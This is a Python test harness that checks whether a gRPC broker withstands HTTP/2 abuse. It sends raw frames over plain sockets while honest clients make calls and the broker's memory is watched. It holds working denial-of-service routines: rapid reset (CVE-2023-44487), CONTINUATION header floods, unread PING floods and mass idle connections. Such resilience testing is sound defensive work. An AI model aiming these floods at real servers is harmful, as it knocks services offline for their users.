"""Abuses the gRPC listener of a running broker over plain sockets, and calls it as an honest client meanwhile. usage: flood.py HOST:PORT PID
Nobody's HTTP/2 library is used to attack: no library sends these frames."""

import os
import resource
import socket
import struct
import sys
import threading
import time

import grpc

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../grpc-python"))
from protos import Stub, message

target, pid = sys.argv[1], int(sys.argv[2])
host, port = target.rsplit(":", 1)
M = lambda name: message("goqueue.v1." + name)
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
PATIENCE = 20
GROWTH = 150 << 20  # bytes that no flood may cost; each one sends several times as much or could hold it
checks = 0


def check(condition, what):
    global checks
    checks += 1
    if not condition:
        raise SystemExit(f"FAILED: {what}")


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def field(name, value):
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value  # literal, not indexed, not packed


def request(method):
    return b"".join(field(name, value) for name, value in (
        (b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), (b":path", b"/goqueue.v1.GoQueue/" + method),
        (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def connect():
    peer = socket.create_connection((host, int(port)), timeout=PATIENCE)
    peer.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return peer


def frames(peer):
    """What the broker sends, until it closes."""
    data = b""
    while True:
        while len(data) >= 9:
            size = int.from_bytes(data[:3], "big")
            if len(data) < 9 + size:
                break
            yield data[3], int.from_bytes(data[5:9], "big"), data[9:9 + size]
            data = data[9 + size:]
        try:
            more = peer.recv(65536)
        except (ConnectionResetError, BrokenPipeError):
            return
        if not more:
            return
        data += more


def memory(name="VmRSS"):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) << 10 for line in status if line.startswith(name + ":"))


def honest(what, number=5):
    """A client that keeps to the rules is served, soon, beside whatever happens."""
    with grpc.insecure_channel(target) as channel:
        stub = Stub(channel, "goqueue.v1.GoQueue")
        for _ in range(number):
            began = time.monotonic()
            check(stub.GetTopic(M("GetTopicRequest")(name="held"), timeout=PATIENCE).topic.name == "held", f"metadata beside {what}")
            answer = stub.Publish(M("PublishRequest")(topic="held", messages=[M("Message")(value=b"beside it")]), timeout=PATIENCE)
            check(answer.results[0].error == 0, f"publishing beside {what}")
            check(time.monotonic() - began < 5, f"two calls beside {what} took {time.monotonic() - began:.1f} s")


def bounded(before, what):
    check(memory() - before < GROWTH, f"{what} took the broker from {before >> 20} to {memory() >> 20} MiB")


def attack(what, work, callers=4):
    """Runs the attack on several connections until each is cut or has sent all, with honest calls beside it."""
    before = memory()
    results, threads = [], []

    def run():
        peer = connect()
        try:
            work(peer)
            results.append("sent all")
        except (ConnectionResetError, BrokenPipeError, ConnectionAbortedError):
            results.append("cut")
        except socket.timeout:
            results.append("held up")
        finally:
            peer.close()

    for _ in range(callers):
        threads.append(threading.Thread(target=run))
        threads[-1].start()
    honest(what)
    bounded(before, what)
    for thread in threads:
        thread.join()
    honest(f"the end of {what}", 1)
    bounded(before, what)
    return results


def half_a_message(method):
    """A length prefix that promises a hundred bytes, and ten of them."""
    peer = connect()
    peer.sendall(frame(HEADERS, END_HEADERS, 1, request(method)) + frame(DATA, 0, 1, b"\x00\x00\x00\x00\x64" + b"x" * 10))
    began = time.monotonic()
    seen = b""
    for kind, stream, payload in frames(peer):
        if stream == 1 and kind in (HEADERS, CONTINUATION):
            seen = payload
            if b"grpc-status" in payload or b"goqueue-error" in payload:
                break
        check(not (kind == GOAWAY), f"{method}: half a message ends the call, not the connection")
    took = time.monotonic() - began
    check(0.5 < took < 10, f"{method}: half a message was cut after {took:.1f} s, not about 1 s")
    check(b"goqueue-error" in seen and b"TIMEOUT" in seen, f"{method}: the call ended with {seen!r}")
    peer.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 3, request(b"ListTopics")))
    check(any(stream == 3 for _, stream, _ in frames(peer)), f"{method}: the connection serves other calls after it")
    peer.close()


def rapid_reset(peer):
    """CVE-2023-44487: requests that are given up at once."""
    stream = 1
    drain(peer)
    block = request(b"ListTopics")
    for _ in range(400):
        burst = bytearray()
        for _ in range(250):
            burst += frame(HEADERS, END_HEADERS | END_STREAM, stream, block) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        peer.sendall(burst)


def endless_headers(peer):
    """Headers that never end, in frames that each hold some."""
    drain(peer)
    peer.sendall(frame(HEADERS, 0, 1, request(b"ListTopics")))
    some = b"".join(field(b"x-%d" % i, b"y" * 100) for i in range(100))
    for _ in range(20_000):
        peer.sendall(frame(CONTINUATION, 0, 1, some))


def empty_headers(peer):
    """The same in frames that hold nothing, which no limit on sizes sees: only the header time-out ends it."""
    drain(peer)
    peer.sendall(frame(HEADERS, 0, 1, request(b"ListTopics")))
    burst = frame(CONTINUATION, 0, 1) * 1000
    until = time.monotonic() + PATIENCE
    while time.monotonic() < until:
        peer.sendall(burst)
        time.sleep(0.01)


def deaf_pings(peer):
    """Asks for answers and never reads them."""
    peer.settimeout(3)
    burst = frame(PING, 0, 0, b"12345678") * 1000
    for _ in range(2000):
        peer.sendall(burst)


def drain(peer):
    def read():
        try:
            while peer.recv(65536):
                pass
        except OSError:
            pass

    threading.Thread(target=read, daemon=True).start()


resource.setrlimit(resource.RLIMIT_NOFILE, (min(resource.getrlimit(resource.RLIMIT_NOFILE)[1], 8192),) * 2)
with grpc.insecure_channel(target) as first:
    Stub(first, "goqueue.v1.GoQueue").CreateTopic(M("CreateTopicRequest")(name="held", partitions=1), timeout=PATIENCE)
honest("nothing", 50)

for method in (b"Publish", b"PublishStream"):
    half_a_message(method)

check(attack("rapid resets", rapid_reset) == ["cut"] * 4, "a connection that resets 100,000 calls is cut")
check(attack("headers without end", endless_headers) == ["cut"] * 4, "a connection whose headers do not end is cut")
check(attack("empty headers without end", empty_headers) == ["cut"] * 4, "a connection whose headers do not end, and are empty, is cut in time")
for beginning in (b"PRI * HTTP/2.0\r\n\r\n", b"x" * 200):  # half a preface; no preface and no end of a line either
    peer = socket.create_connection((host, int(port)), timeout=PATIENCE)
    peer.sendall(beginning)
    began = time.monotonic()
    for _ in frames(peer):
        pass
    check(time.monotonic() - began < 10, f"a caller that begins with {beginning[:20]!r} was held {time.monotonic() - began:.1f} s")
    peer.close()

check(set(attack("pings that nobody reads", deaf_pings)) <= {"cut", "held up"}, "answers that nobody reads hold their asker up")

before = memory()
idle = [connect() for _ in range(2000)]
half = connect()
half.sendall(frame(HEADERS, END_HEADERS, 1, request(b"Publish"))[:20])  # half an HTTP/2 frame
honest("2,000 idle connections", 20)
bounded(before, "2,000 idle connections")
cost = (memory() - before) // 2000
deadline = time.monotonic() + PATIENCE
for peer in [*idle, half]:
    peer.settimeout(max(0.1, deadline - time.monotonic()))
    try:
        for _ in frames(peer):
            pass
    except socket.timeout:
        check(False, "a connection that says nothing is closed when its idle time is over")
    peer.close()
check(True, "idle connections end")
honest("after the idle ones left", 1)
check(memory("VmHWM") < 400 << 20, f"the broker had {memory('VmHWM') >> 20} MiB at its largest")
print(f"{checks} checks, idle connection {cost >> 10} KiB, largest {memory('VmHWM') >> 20} MiB")
